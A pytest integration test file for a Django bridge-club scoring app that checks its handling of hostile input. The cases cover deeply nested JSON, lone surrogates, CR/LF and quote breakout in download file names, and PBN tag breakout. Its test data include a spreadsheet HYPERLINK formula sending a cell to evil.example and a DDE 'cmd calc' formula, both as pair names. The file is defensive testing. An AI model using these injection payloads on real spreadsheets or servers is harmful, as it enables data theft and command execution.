"""Issue 26, items 6 to 8: hostile input. JSON nested 1,500 deep or holding a lone surrogate gets a 400 naming the
problem on every JSON endpoint (the public's, a table's, another club's director's), never a 500; a name that a
spreadsheet would read as a formula comes out of every CSV as text; a name in a download's file name cannot end the
header or break out of its quotes; an empty USEBIO file, a read-only setting and another club's uniqueness each
get an answer that names the problem."""

from __future__ import annotations

import csv
import io
from email.message import Message

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client

from games.formats import pbn
from games.models import Result
from tests.integration.api_helpers import enter
from tests.integration.config.schema_walk import (
    WRITES,
    concrete,
    schema_operations,
    with_results_and_conflict,
)
from tournaments.models import Event, Section, Session

pytestmark = pytest.mark.django_db

NESTED = "[" * 1500 + "]" * 1500
NESTED_MESSAGE = "the JSON is nested more than 64 levels deep"


def _client(**headers) -> Client:
    return Client(headers={"X-Forwarded-Proto": "https", **headers})


def _viewers(world) -> dict[str, Client]:
    """The public, a table's phone (its code in the header) and another club's director."""
    stranger = _client()
    stranger.force_login(world["bob"])
    return {"public": _client(), "table": _client(**{"X-Table-Code": world["code"][2]}),
            "another club's director": stranger}  # fmt: skip


def _surrogate(path: str, escape: str) -> str:
    return f"JSON field '{path}' holds a lone surrogate ({escape}), which is no character"


# --- 6: nested JSON, lone surrogates, header values ---------------------------------------------------------


def test_deeply_nested_json_is_a_400_on_every_endpoint(world):
    """A RecursionError in the parser was a 500 on any JSON endpoint, anonymous ones included."""
    with_results_and_conflict(_client(), world)
    for who, client in _viewers(world).items():
        for path, method in schema_operations():
            if method not in WRITES:
                continue
            url = concrete(path, world)
            answer = getattr(client, method)(url, NESTED, content_type="application/json")
            assert answer.status_code < 500, f"{who}: {method.upper()} {url}"
            if answer.status_code == 400:
                assert answer.json()["detail"] == NESTED_MESSAGE, f"{who}: {method.upper()} {url}"
    answer = _client().post("/api/table/login/", NESTED, content_type="application/json")
    assert (answer.status_code, answer.json()["detail"]) == (400, NESTED_MESSAGE)
    answer = _viewers(world)["table"].post(
        "/api/table/results/",
        f'{{"board": 2, "contract": "4S", "lead": {NESTED}}}',
        content_type="application/json",
    )
    assert (answer.status_code, answer.json()["detail"]) == (400, NESTED_MESSAGE)


def test_nesting_under_the_parsers_own_limit_is_refused_too(world):
    """Nesting that Python's parser reads (under its recursion limit) would reach a view that walks it: the limit is
    the one named, whatever the depth."""
    for depth, refused in ((64, False), (65, True), (900, True)):
        body = "[" * depth + "]" * depth
        answer = _client().post("/api/table/login/", body, content_type="application/json")
        assert answer.status_code == 400
        assert (answer.json()["detail"] == NESTED_MESSAGE) is refused, depth


def test_json_in_a_form_field_is_read_with_the_same_checks(client, world):
    """A play record's auction posted as a form field is JSON text read by the serializer, not by the parser."""
    assert enter(client, world["code"][1], 1).status_code == 201
    result = Result.objects.get(section=world["a"], board__number=1)
    client.force_login(world["alice"])
    url = f"/api/results/{result.id}/play/"
    answer = client.post(url, {"auction": NESTED})
    assert (answer.status_code, answer.json()["detail"]) == (400, f"auction: {NESTED_MESSAGE}")
    answer = client.post(url, {"auction": '["1NT", "\\udc80"]'})
    assert (answer.status_code, answer.json()["detail"]) == (400, "auction: " + _surrogate("1", "\\udc80"))


@pytest.mark.parametrize(
    ("body", "path", "escape"),
    [('{"board": 1, "side": "\\ud800"}', "side", "\\ud800"),
     ('{"board": 1, "side": "N\\udfffS"}', "side", "\\udfff"),
     ('{"board": 1, "\\udc00": "NS"}', "\\udc00", "\\udc00"),
     ('[{"side": ["NS", "\\ud83d"]}]', "0.side.1", "\\ud83d")],
)  # fmt: skip
def test_a_lone_surrogate_is_refused_naming_the_field(world, body, path, escape):
    """A "\\ud800" escape is valid JSON but no character: echoed in a refusal it was a 500 (UTF-8 cannot encode it)."""
    answer = _viewers(world)["table"].post("/api/table/confirm/", body, content_type="application/json")
    assert (answer.status_code, answer.json()["detail"]) == (400, _surrogate(path, escape))
    paired = _viewers(world)["table"].post(
        "/api/table/confirm/", '{"board": 1, "side": "\\ud83d\\ude00"}', content_type="application/json"
    )
    assert paired.status_code == 400 and "is not a valid choice" in paired.json()["detail"], (
        "an emoji is text"
    )


def test_a_lone_surrogate_is_refused_for_everyone(world):
    club = world["a"].session.event.club_id
    for who, client in _viewers(world).items():
        answer = client.post("/api/events/", f'{{"club": {club}, "name": "x\\ud800", "date": "2026-11-23"}}',
                             content_type="application/json")  # fmt: skip
        if who == "another club's director":
            assert (answer.status_code, answer.json()["detail"]) == (400, _surrogate("name", "\\ud800"))
        else:
            assert answer.status_code in (401, 403), who
    assert not Event.objects.filter(name__startswith="x").exists()


def _download(client, section: Section):
    return client.get(f"/direct/sections/{section.id}/deals/", {"format": "pbn"})


def _filename(header: str) -> str:
    """The file name a browser reads from Content-Disposition (RFC 6266: filename, or filename* when there)."""
    message = Message()
    message["Content-Disposition"] = header
    names = [name for name, _ in message.get_params(header="content-disposition")]
    assert names in (["attachment", "filename"], ["attachment", "filename*"]), header
    return message.get_filename()


@pytest.mark.parametrize(
    ("name", "header"),
    [("A", 'attachment; filename="monday-pairs-A.pbn"'),
     ('A";x=".exe', 'attachment; filename="monday-pairs-A\\";x=\\".exe.pbn"'),
     ("A\\", 'attachment; filename="monday-pairs-A\\\\.pbn"'),
     ("A\r\nSet-Cookie: x=1", "attachment; filename*=utf-8''monday-pairs-A%0D%0ASet-Cookie%3A%20x%3D1.pbn"),
     ("A\u2028B", "attachment; filename*=utf-8''monday-pairs-A%E2%80%A8B.pbn"),
     ("É", "attachment; filename*=utf-8''monday-pairs-%C3%89.pbn")],
)  # fmt: skip
def test_a_section_name_stays_inside_the_download_file_name(client, world, name, header):
    """A section's name is part of its deal file's name: a quote broke out of filename="...", a CR/LF or U+2028
    was a 500."""
    section = world["a"]
    Section.objects.filter(id=section.id).update(name=name)
    client.force_login(world["alice"])
    answer = _download(client, section)
    assert answer.status_code == 200
    assert answer["Content-Disposition"] == header
    assert _filename(answer["Content-Disposition"]) == f"monday-pairs-{name}.pbn"


# --- 7: spreadsheet formulas and PBN tags ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NAMES = {1: FORMULA, 2: "@SUM(1+1)*cmd|' /C calc'!A0", 3: '+1+2 "quoted\\" ] [Event "x', 4: "-2+3"}
TRICKY_USEBIO = """<?xml version="1.0" encoding="UTF-8"?>
<USEBIO Version="1.2">
  <EVENT EVENT_TYPE="MP_PAIRS">
    <EVENT_DESCRIPTION>Club pairs</EVENT_DESCRIPTION>
    <DATE>23/11/2026</DATE>
    <PARTICIPANTS>{pairs}</PARTICIPANTS>
    <BOARD>
      <BOARD_NUMBER>1</BOARD_NUMBER>
      <TRAVELLER_LINE><NS_PAIR_NUMBER>1</NS_PAIR_NUMBER><EW_PAIR_NUMBER>2</EW_PAIR_NUMBER><CONTRACT>3NT</CONTRACT>
        <PLAYED_BY>N</PLAYED_BY><TRICKS>8</TRICKS><SCORE>-50</SCORE></TRAVELLER_LINE>
      <TRAVELLER_LINE><NS_PAIR_NUMBER>3</NS_PAIR_NUMBER><EW_PAIR_NUMBER>4</EW_PAIR_NUMBER><CONTRACT>3NT</CONTRACT>
        <PLAYED_BY>N</PLAYED_BY><TRICKS>9</TRICKS><SCORE>400</SCORE></TRAVELLER_LINE>
    </BOARD>
  </EVENT>
</USEBIO>
"""


def _xml(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


@pytest.fixture
def tricky(client, world):
    """A published section whose pairs are named as a spreadsheet formula, a quote or a backslash would break out."""
    pairs = "".join(f"<PAIR><PAIR_NUMBER>{n}</PAIR_NUMBER><PLAYER><PLAYER_NAME>{_xml(name)}</PLAYER_NAME></PLAYER>"
                    "</PAIR>" for n, name in NAMES.items())  # fmt: skip
    client.force_login(world["alice"])
    club = world["a"].session.event.club_id
    made = client.post(
        "/api/imports/", {"club": club, "format": "usebio", "data": TRICKY_USEBIO.format(pairs=pairs)}
    )
    assert made.status_code == 201, made.content
    sid = made.json()["id"]
    assert client.post(f"/api/sections/{sid}/status/", {"status": "published"}).status_code == 200
    client.logout()
    names = dict(Section.objects.get(id=sid).entries.values_list("number", "name"))
    assert names[1].startswith("=") and names[2].startswith("@") and "\\" in names[3]
    return sid, names


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_formula_name_comes_out_of_the_standings_csv_as_text(client, tricky):
    sid, names = tricky
    answer = client.get(f"/api/sections/{sid}/export/?kind=standings-csv")
    assert answer.status_code == 200
    rows = _rows(answer.content.decode())
    assert rows[0] == ["rank", "entry", "direction", "name", "total", "percentage", "boards"]
    assert {row[1]: row[3] for row in rows[1:]} == {str(n): "'" + name for n, name in names.items()}
    assert {row[1]: row[5] for row in rows[1:]} == {"1": "0.00", "2": "100.00", "3": "100.00", "4": "0.00"}


def test_numbers_stay_numbers_in_the_results_csv(client, tricky):
    """A minus score is a number, not a formula: -50 is written as -50."""
    sid, _ = tricky
    rows = _rows(client.get(f"/api/sections/{sid}/export/?kind=csv").content.decode())
    assert [(row[3], row[9]) for row in rows[1:]] == [("1", "-50"), ("3", "400")]


def test_the_export_command_writes_formulas_as_text(tricky, capsys):
    sid, names = tricky
    capsys.readouterr()
    call_command("export_csv", str(sid), "--standings")
    rows = _rows(capsys.readouterr().out)
    assert {row[3] for row in rows[1:]} == {"'" + name for name in names.values()}


def test_a_name_cannot_break_a_pbn_tag(client, tricky):
    """PBN 2.1 §3.1: a quote in a string is \\", a backslash \\\\: the names read back as they were, and the tags
    are the ones written."""
    sid, names = tricky
    text = client.get(f"/api/sections/{sid}/export/?kind=pbn").content.decode()
    (game,) = pbn.parse(text)
    assert game.tags["Event"] == "Club pairs"
    table = game.tables["TotalScoreTable"]
    column = [c.name for c in table.columns].index("Names")
    assert sorted(row[column] for row in table.rows) == sorted(names.values())


# --- 8: an empty USEBIO file, a read-only setting, uniqueness after permission ---------------------------------

EMPTY_USEBIO = """<?xml version="1.0" encoding="UTF-8"?>
<USEBIO Version="1.2"><EVENT EVENT_TYPE="MP_PAIRS"><EVENT_DESCRIPTION>Club pairs</EVENT_DESCRIPTION></EVENT></USEBIO>
"""
SCORED_ACROSS = (
    "scored_across: a session is scored across the field when it is set up with its sections on the new-session "
    "page (they are dealt the same boards then); it cannot change afterwards"
)
EMPTY_MESSAGE = "empty.xml: no BOARD with a TRAVELLER_LINE and no HANDSET: the file holds nothing to import"


def test_an_empty_usebio_file_is_refused(client, world, tmp_path):
    client.force_login(world["alice"])
    upload = SimpleUploadedFile("empty.xml", EMPTY_USEBIO.encode())
    club = world["a"].session.event.club_id
    answer = client.post("/api/imports/", {"club": club, "format": "usebio", "file": upload})
    assert (answer.status_code, answer.json()["detail"]) == (400, EMPTY_MESSAGE)
    path = tmp_path / "empty.xml"
    path.write_text(EMPTY_USEBIO)
    with pytest.raises(CommandError, match=EMPTY_MESSAGE):
        call_command("import_usebio", str(path), "--club", "riverton")
    assert not Event.objects.filter(name="Club pairs").exists(), "nothing stored"


def test_a_session_is_not_scored_across_by_a_patch(client, world):
    """scored_across is chosen with the sections on the new-session page, where they are dealt the same boards: a
    PATCH that asked for it answered 200 and changed nothing."""
    session = world["a"].session
    url = f"/api/sessions/{session.id}/"
    for who, other in _viewers(world).items():
        answer = other.patch(url, {"scored_across": True}, content_type="application/json")
        assert answer.status_code in (401, 403), who
    client.force_login(world["alice"])
    answer = client.patch(url, {"scored_across": True}, content_type="application/json")
    assert (answer.status_code, answer.json()["detail"]) == (400, SCORED_ACROSS)
    assert Session.objects.get(id=session.id).scored_across is False
    same = client.patch(url, {"scored_across": False, "name": "Evening"}, content_type="application/json")
    assert same.status_code == 200 and same.json()["name"] == "Evening", "the value it has is no change"
    made = client.post("/api/sessions/", {"event": session.event_id, "number": 2, "scored_across": "true"})
    assert (made.status_code, made.json()["detail"]) == (400, SCORED_ACROSS)
    assert not Session.objects.filter(event=session.event, number=2).exists()


def test_a_sections_status_is_not_changed_by_a_patch(client, world):
    section = world["a"]
    client.force_login(world["alice"])
    url = f"/api/sections/{section.id}/"
    answer = client.patch(url, {"status": "published"}, content_type="application/json")
    assert (answer.status_code, answer.json()["detail"]) == (
        400,
        "status: changed with POST /api/sections/<id>/status/ (running, finished, published)",
    )
    assert Section.objects.get(id=section.id).status == "running"
    whole = client.get(url).json()
    assert client.put(url, whole, content_type="application/json").status_code == 200, (
        "a GET's values sent back"
    )


def test_another_clubs_rows_cannot_be_probed_by_their_uniqueness(world):
    """Session numbers and section names are unique in their event and session: that check answered (400) before
    the director check (403), so another club's director could tell which numbers and names were taken."""
    theirs = world["a"]
    viewers = _viewers(world)
    for who, client in viewers.items():
        for number in (1, 2):
            answer = client.post("/api/sessions/", {"event": theirs.session.event_id, "number": number},
                                 content_type="application/json")  # fmt: skip
            assert answer.status_code in (401, 403), (who, number, answer.content)
        for name in ("A", "B"):
            answer = client.post("/api/sections/", {"session": theirs.session_id, "name": name},
                                 content_type="application/json")  # fmt: skip
            assert answer.status_code in (401, 403), (who, name, answer.content)
    bob = viewers["another club's director"]
    own = world["b"].session
    for number in (1, 2):
        answer = bob.patch(f"/api/sessions/{own.id}/", {"event": theirs.session.event_id, "number": number},
                           content_type="application/json")  # fmt: skip
        assert answer.status_code == 403, (number, answer.content)
    assert Session.objects.get(id=own.id).event_id == own.event_id
    assert list(Session.objects.filter(event=theirs.session.event).values_list("number", flat=True)) == [1]
